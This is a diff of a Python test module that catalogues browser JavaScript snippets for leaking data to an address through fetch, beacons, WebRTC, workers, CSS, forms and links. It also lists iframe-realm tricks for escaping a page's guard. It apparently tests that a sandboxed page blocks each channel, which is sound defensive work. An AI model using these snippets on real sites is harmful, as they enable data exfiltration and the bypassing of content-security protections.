@@ -1,72 +1,261 @@
-"""Every way out of a page that a script might try, to the address `to`."""
+"""Every way out of a page that a script, or a person whom markup leads, might take to `to`."""
 
 CANARY = "canary-7f3a"
 
-WAYS = {
+SVG = "http://www.w3.org/2000/svg"
+MATHML = "http://www.w3.org/1998/Math/MathML"
+XLINK = "http://www.w3.org/1999/xlink"
+XHTML = "http://www.w3.org/1999/xhtml"
+
+TOOLS = f"""
+const canary = "{CANARY}";
+const host = new URL(to).host;
+const make = (name, given) => Object.assign(document.createElement(name), given);
+const add = (name, given) => document.body.appendChild(make(name, given));
+const markup = (text) => document.body.insertAdjacentHTML("beforeend", text);
+const peer = (Peer) => {{
+  const urls = [`turn:${{host}}`, `turn:${{host}}?transport=tcp`];
+  const servers = [{{ urls: `stun:${{host}}` }}, {{ urls, username: canary, credential: "x" }}];
+  const one = new Peer({{ iceServers: servers }});
+  one.createDataChannel(canary);
+  one.createOffer().then((offer) => one.setLocalDescription(offer)).catch(() => {{}});
+  (globalThis.kept ??= []).push(one);
+}};
+const peerOf = (frame) => peer(frame.contentWindow.RTCPeerConnection);
+const last = () => window[window.length - 1];
+const link = (space, name, attribute, attributeSpace) => {{
+  const one = document.createElementNS(space, name);
+  one.setAttributeNS(attributeSpace ?? null, attribute, to);
+  one.setAttribute("target", "_blank");
+  return one;
+}};
+const press = (one, cancelable = true) =>
+  one.dispatchEvent(new MouseEvent("click", {{ bubbles: true, cancelable, composed: true }}));
+const page = (text) => URL.createObjectURL(new Blob([text], {{ type: "text/html" }}));
+const leading = () => page(`<meta http-equiv="refresh" content="0;url=${{to}}">`);
+const shadow = (mode) => add("div").attachShadow({{ mode }});
+const parsed = (text, type) => new DOMParser().parseFromString(text, type);
+"""
+"""What the ways below are written with."""
+
+CONNECTIONS = {
     "fetch": "fetch(to).catch(() => {})",
-    "fetch with a body": "fetch(to, {method: 'POST', mode: 'no-cors', body: 'canary-7f3a'})"
+    "fetch with a body": "fetch(to, {method: 'POST', mode: 'no-cors', body: canary})"
     ".catch(() => {})",
     "keepalive": "fetch(to, {keepalive: true, mode: 'no-cors'}).catch(() => {})",
+    "fetch later": "fetchLater(to, {activateAfter: 0})",
     "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', to); x.send()",
-    "sendBeacon": "navigator.sendBeacon(to, 'canary-7f3a')",
+    "sendBeacon": "navigator.sendBeacon(to, canary)",
     "WebSocket": "new WebSocket(to.replace('http', 'ws'))",
     "EventSource": "new EventSource(to)",
     "WebTransport": "new WebTransport(to.replace('http:', 'https:')).ready.catch(() => {})",
     "image": "new Image().src = to",
-    "image in the page": "document.body.insertAdjacentHTML('beforeend', `<img src='${to}'>`)",
-    "svg image": "document.body.insertAdjacentHTML('beforeend',"
-    " `<svg><image href='${to}'/></svg>`)",
+    "image in the page": "markup(`<img src='${to}'>`)",
+    "image of a set": "markup(`<img srcset='${to} 1x'>`)",
+    "image of a button": "add('input', {type: 'image', src: to})",
+    "svg image": "markup(`<svg><image href='${to}'/></svg>`)",
+    "svg use": "markup(`<svg><use href='${to}#a'/></svg>`)",
+    "svg filter": "markup(`<svg><filter><feImage href='${to}'/></filter></svg>`)",
     "stylesheet": "add('link', {rel: 'stylesheet', href: to})",
     "style of an element": "document.body.style.backgroundImage = `url(${to})`",
-    "rule": "const s = new CSSStyleSheet(); s.replaceSync(`body {background: url(${to})}`);"
-    " document.adoptedStyleSheets = [s]",
+    "cursor": "document.body.style.cursor = `url(${to}), auto`",
+    "rule": "const s = new CSSStyleSheet(); s.replaceSync(`html {background: url(${to})}`);"
+    " document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]",
     "font": "new FontFace('f', `url(${to})`).load().catch(() => {})",
     "script": "add('script', {src: to})",
     "module": "import(to).catch(() => {})",
     "worker": "new Worker(to)",
     "shared worker": "new SharedWorker(to)",
     "service worker": "navigator.serviceWorker.register(to).catch(() => {})",
+    "paint worklet": "CSS.paintWorklet.addModule(to).catch(() => {})",
+    "audio worklet": "new AudioContext().audioWorklet.addModule(to).catch(() => {})",
     "frame": "add('iframe', {src: to})",
     "frame with a page": "add('iframe', {srcdoc: `<img src='${to}'>`})",
+    "frame that is led on": "add('iframe',"
+    " {srcdoc: `<meta http-equiv=refresh content='0;url=${to}'>`})",
     "object": "add('object', {data: to})",
     "embed": "add('embed', {src: to})",
-    "video": "add('video', {src: to, poster: to, autoplay: true})",
+    "video": "add('video', {src: to, autoplay: true})",
+    "poster": "add('video', {poster: to})",
     "audio": "new Audio(to).play().catch(() => {})",
-    "track": "document.body.insertAdjacentHTML('beforeend',"
-    " `<video><track default src='${to}'></video>`)",
+    "track": "markup(`<video src='data:video/webm,'><track default src='${to}'></video>`);"
+    " document.querySelector('track').track.mode = 'showing'",
     "prefetch": "add('link', {rel: 'prefetch', href: to})",
     "preload": "add('link', {rel: 'preload', as: 'image', href: to})",
     "modulepreload": "add('link', {rel: 'modulepreload', href: to})",
     "icon": "add('link', {rel: 'icon', href: to})",
     "manifest": "document.querySelector('[rel=manifest]').href = to",
-    "form": "const f = add('form', {action: to}); f.submit()",
-    "form post": "const f = add('form', {action: to, method: 'post'}); f.requestSubmit()",
-    "link": "add('a', {href: to}).click()",
-    "link to a new tab": "add('a', {href: to, target: '_blank'}).click()",
+    "dictionary": "add('link', {rel: 'compression-dictionary', href: to})",
+    "preconnect": "add('link', {rel: 'preconnect', href: to})",
+    "dns-prefetch": "add('link', {rel: 'dns-prefetch', href: to})",
+    "link that is there": "add('a', {href: to, textContent: 'there'})",
+    "preconnect by markup": "markup(`<link rel='preconnect' href='${to}'>`)",
+    "preconnect in a shadow tree": "shadow('closed').append(make('link',"
+    " {rel: 'preconnect', href: to}))",
+    "own element to preconnect": "const l = document.querySelector('[rel=manifest]');"
+    " l.rel = 'preconnect'; l.href = to",
+    "own element by its attributes": "const l = document.querySelector('[rel=manifest]');"
+    " l.setAttribute('rel', 'preconnect'); l.setAttribute('href', to)",
+    "own element by an attribute's value": "const l = document.querySelector('[rel=manifest]');"
+    " l.attributes.rel.value = 'preconnect'; l.attributes.href.value = to",
+    "own element by a copied attribute": "const l = document.querySelector('[rel=manifest]');"
+    " for (const [n, v] of [['rel', 'preconnect'], ['href', to]]) {"
+    " const a = document.createAttribute(n); a.value = v; l.setAttributeNode(a) }",
+    "own element by a named attribute": "const l = document.querySelector('[rel=manifest]');"
+    " for (const [n, v] of [['rel', 'preconnect'], ['href', to]]) {"
+    " const a = document.createAttribute(n); a.value = v; l.attributes.setNamedItem(a) }",
+    "own element copied": "const l = document.querySelector('[rel=manifest]').cloneNode();"
+    " l.rel = 'preconnect'; l.href = to; document.head.append(l)",
+    "form to a new tab": "const f = add('form', {action: to, target: '_blank'}); f.submit()",
     "link that pings": "add('a', {href: '#tokens', ping: to}).click()",
-    "link outside the page": "Object.assign(document.createElement('a'), {href: to}).click()",
-    "file to save": "Object.assign(document.createElement('a'),"
-    " {href: to, download: 'saved'}).click()",
-    "own link changed": "const a = document.querySelector('.source a'); a.href = to; a.click()",
-    "address": "location.href = to",
-    "replaced address": "location.replace(to)",
-    "new window": "window.open(to)",
-    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${to}`})",
-    "peer connection": "new RTCPeerConnection({iceServers: [{urls: 'stun:' + new URL(to).host}]})",
+    "link that is attributed": "add('a', {href: '#tokens', attributionSrc: to}).click()",
+    "image that is attributed": "add('img', {attributionSrc: to})",
     "report": "add('meta', {httpEquiv: 'Content-Security-Policy', content: `img-src 'none';"
     " report-uri ${to}`}); new Image().src = 'x.png'",
     "speculation": "add('script', {type: 'speculationrules',"
     " text: JSON.stringify({prefetch: [{urls: [to]}]})})",
+    "payment": "new PaymentRequest([{supportedMethods: to}], {total: {label: 'a',"
+    " amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {})",
+    "background fetch": "navigator.serviceWorker.ready.then("
+    "(one) => one.backgroundFetch.fetch(canary, [to])).catch(() => {})",
+    "shared storage": "sharedStorage.createWorklet(to).catch(() => {})",
+    "identity": "navigator.credentials.get({identity: {providers:"
+    " [{configURL: to, clientId: canary}]}}).catch(() => {})",
+    "stylesheet of XSLT": "const x = new XSLTProcessor(); x.importStylesheet(parsed("
+    "`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
+    "<xsl:template match='/'><xsl:copy-of select=\"document('${to}')\"/></xsl:template>"
+    "</xsl:stylesheet>`, 'text/xml')); x.transformToFragment(document, document)",
+    "entity of XML": "parsed(`<!DOCTYPE a [<!ENTITY e SYSTEM '${to}'>]><a>&e;</a>`, 'text/xml')",
 }  # fmt: skip
+"""Requests of the page itself, which its policy, or its guard, has to refuse."""
 
-BY_ADDRESS = {"link outside the page", "file to save", "address", "replaced address", "refresh"}
+REALMS = {
+    "peer connection": "peer(RTCPeerConnection)",
+    "peer connection by its prefix": "peer(webkitRTCPeerConnection)",
+    "peer connection of a frame": "peerOf(add('iframe'))",
+    "of a frame by its number": "add('iframe'); peer(last().RTCPeerConnection)",
+    "of a frame by its name": "add('iframe', {name: 'fresh'});"
+    " peer(window.fresh.RTCPeerConnection)",
+    "of a frame's view": "peer(add('iframe').contentDocument.defaultView.RTCPeerConnection)",
+    "of a frame by markup": "markup('<iframe></iframe>'); peer(last().RTCPeerConnection)",
+    "of a frame by outer markup": "add('p').outerHTML = '<iframe></iframe>';"
+    " peer(last().RTCPeerConnection)",
+    "of a frame in a shadow tree": "const f = make('iframe');"
+    " shadow('closed').append(f); peerOf(f)",
+    "of a frame in a fragment": "document.body.append(document.createRange()"
+    ".createContextualFragment('<p><iframe></iframe></p>')); peer(last().RTCPeerConnection)",
+    "of a frame in a template": "const t = make('template', {innerHTML: '<iframe></iframe>'});"
+    " document.body.append(t.content); peer(last().RTCPeerConnection)",
+    "of a frame put into a range": "const r = document.createRange(); r.selectNode(document.body"
+    ".lastChild); r.insertNode(make('iframe')); peer(last().RTCPeerConnection)",
+    "of a frame by XML": "const d = parsed(`<div xmlns='http://www.w3.org/1999/xhtml'><iframe/></div>`,"
+    " 'text/xml'); document.body.append(d.documentElement); peer(last().RTCPeerConnection)",
+    "of a frame by an entity": "const d = parsed(`<!DOCTYPE a [<!ENTITY e \""
+    "&#38;#60;iframe xmlns='http://www.w3.org/1999/xhtml'/>\">]>"
+    "<div xmlns='http://www.w3.org/1999/xhtml'>&e;</div>`, 'text/xml');"
+    " document.body.append(d.documentElement); peer(last().RTCPeerConnection)",
+    "of a frame by XSLT": "const x = new XSLTProcessor(); x.importStylesheet(parsed("
+    "`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
+    "<xsl:template match='/'><p><xsl:element name='iframe'/></p></xsl:template>"
+    "</xsl:stylesheet>`, 'text/xml'));"
+    " document.body.append(x.transformToFragment(document, document));"
+    " peer(last().RTCPeerConnection)",
+    "of a frame by an unsafe parser": "document.body.append(Document.parseHTMLUnsafe("
+    "'<iframe></iframe>').body.firstChild); peer(last().RTCPeerConnection)",
+    "of a frame in a declared shadow tree": "add('div').setHTMLUnsafe('<div><template"
+    " shadowrootmode=open><iframe></iframe></template></div>'); peerOf(document.body.lastChild"
+    ".firstChild.shadowRoot.firstChild)",
+    "of a frame by a command": "add('p', {contentEditable: 'true'}).focus();"
+    " document.execCommand('insertHTML', false, '<iframe></iframe>');"
+    " peer(last().RTCPeerConnection)",
+    "of a frame while it loads": "document.body.append(make('iframe',"
+    " {onload: (event) => peerOf(event.target)}))",
+    "of a set of frames": "const b = document.body; document.body = make('frameset');"
+    " document.body.append(make('frame')); peer(last().RTCPeerConnection); document.body = b",
+    "of an object": "peerOf(add('object', {type: 'text/html', data: 'about:blank'}))",
+    "of an embedded page": "peerOf(add('embed', {type: 'text/html', src: 'about:blank'}))",
+    "image of a frame": "new (add('iframe').contentWindow.Image)().src = to",
+    "fetch of a frame": "add('iframe').contentWindow.fetch(to).catch(() => {})",
+    "address of a frame": "add('iframe').contentWindow.location = to",
+    "open of a frame": "add('iframe').contentWindow.open.call(window, to)",
+    "link in a frame": "const f = add('iframe'); f.contentDocument.body.append(make('a',"
+    " {href: to, target: '_blank'})); f.contentDocument.body.lastChild.click()",
+    "peer connection of a window": "peer(open('about:blank').RTCPeerConnection)",
+}  # fmt: skip
+"""Peer connections, and what a realm of its own, fresh and without the guard, could do."""
+
+WINDOWS = {
+    "new window": "window.open(to)",
+    "new window of the document": "document.open(to, '_blank', '')",
+    "new window led elsewhere": "open('about:blank').location = to",
+    "link to a new tab": "add('a', {href: to, target: '_blank'}).click()",
+    "detached link to a new tab": "make('a', {href: to, target: '_blank'}).click()",
+    "area to a new tab": "make('area', {href: to, target: '_blank'}).click()",
+    "link dispatched": "press(add('a', {href: to, target: '_blank'}))",
+    "detached link dispatched": "press(make('a', {href: to, target: '_blank'}))",
+    "link that cannot be held": "press(add('a', {href: to, target: '_blank'}), false)",
+    "part of a link": "const a = make('a', {href: to, target: '_blank'}); a.append(make('b'));"
+    " a.firstChild.click()",
+    "link in a closed shadow tree": "const a = make('a', {href: to, target: '_blank'});"
+    " shadow('closed').append(a); a.click()",
+    "link around a shadow tree": "const a = add('a', {href: to, target: '_blank'});"
+    " a.append(make('div')); const r = a.firstChild.attachShadow({mode: 'closed'});"
+    " r.append(make('b')); press(r.firstChild)",
+    "link in SVG": f"press(document.body.appendChild(link('{SVG}', 'a', 'href')))",
+    "detached link in SVG": f"press(link('{SVG}', 'a', 'href'))",
+    "old link in SVG": f"press(link('{SVG}', 'a', 'href', '{XLINK}'))",
+    "link in MathML": f"press(document.body.appendChild(link('{MATHML}', 'mi', 'href')))",
+    "named link in MathML": f"press(document.body.appendChild(link('{MATHML}', 'a', 'href')))",
+    "link with changing address": "markup(`<svg><a target='_blank'><animate attributeName='href'"
+    " values='${to}' dur='9s' repeatCount='indefinite'/><text>a</text></a></svg>`);"
+    " const a = [...document.querySelectorAll('svg a')].at(-1);"
+    " setTimeout(() => press(a), 100)",
+    "blob in a new tab": "make('a', {href: leading(), target: '_blank'}).click()",
+    "own link to a new tab": "const a = document.querySelector('.source a');"
+    " a.href = to; a.target = '_blank'; a.click()",
+}  # fmt: skip
+"""Other windows."""
+
+ADDRESSES = {
+    "form": "const f = add('form', {action: to}); f.submit()",
+    "form post": "const f = add('form', {action: to, method: 'post'}); f.requestSubmit()",
+    "link": "add('a', {href: to}).click()",
+    "link outside the page": "make('a', {href: to}).click()",
+    "file to save": "make('a', {href: to, download: 'saved'}).click()",
+    "own link changed": "const a = document.querySelector('.source a'); a.href = to; a.click()",
+    "blob": "make('a', {href: leading()}).click()",
+    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${to}`})",
+    "refresh by markup": "markup(`<meta http-equiv='refresh' content='0;url=${to}'>`)",
+    "address": "location.href = to",
+    "replaced address": "location.replace(to)",
+    "address by its API": "navigation.navigate(to).finished.catch(() => {})",
+    "address of a blob": "location = leading()",
+}
+"""Away in this tab."""
+
+WAYS = {**CONNECTIONS, **REALMS, **WINDOWS, **ADDRESSES}
+
+BY_ADDRESS = {"address", "replaced address", "address of a blob"}
 """Those that only the Navigation API can refuse."""
 
+CLICKED = {
+    "link": "add('a', {href: to, id: 'way', textContent: 'way'})",
+    "link in a new tab": "add('a', {href: to, target: '_blank', id: 'way', textContent: 'way'})",
+    "link by markup": "markup(`<a id='way' href='${to}'>way</a>`)",
+    "link in a closed shadow tree": "const r = add('div', {id: 'way'}).attachShadow("
+    "{mode: 'closed'}); r.append(make('a', {href: to, textContent: 'way'}))",
+    "link in SVG": "markup(`<svg id='way' width='99' height='20'><a href='${to}'>"
+    "<rect width='99' height='20'/></a></svg>`)",
+    "old link in SVG": "markup(`<svg id='way' width='99' height='20'><a xlink:href='${to}'>"
+    "<rect width='99' height='20'/></a></svg>`)",
+    "link with changing address": "markup(`<svg id='way' width='99' height='20'><a><animate"
+    " attributeName='href' values='${to}' dur='99s' repeatCount='indefinite'/>"
+    "<rect width='99' height='20'/></a></svg>`)",
+    "link in MathML": "markup(`<math id='way' href='${to}'><mtext>way way</mtext></math>`)",
+}  # fmt: skip
+"""What a person clicks that has been put into the page, by the left button or the middle one."""
 
-def trying(way: str) -> str:
-    """A script that tries one way out; that it raises is as good as anything."""
-    add = "Object.assign(document.createElement(name), given)"
-    return (
-        f"const add = (name, given) => document.body.appendChild({add});"
-        f" try {{ {WAYS[way]} }} catch {{}}"
-    )
+
+def trying(way: str, ways: dict[str, str] = WAYS) -> str:
+    """A script that tries one way out, to the address `to`; that it raises is as good as any."""
+    return f"{TOOLS} try {{ {ways[way]} }} catch {{}}"
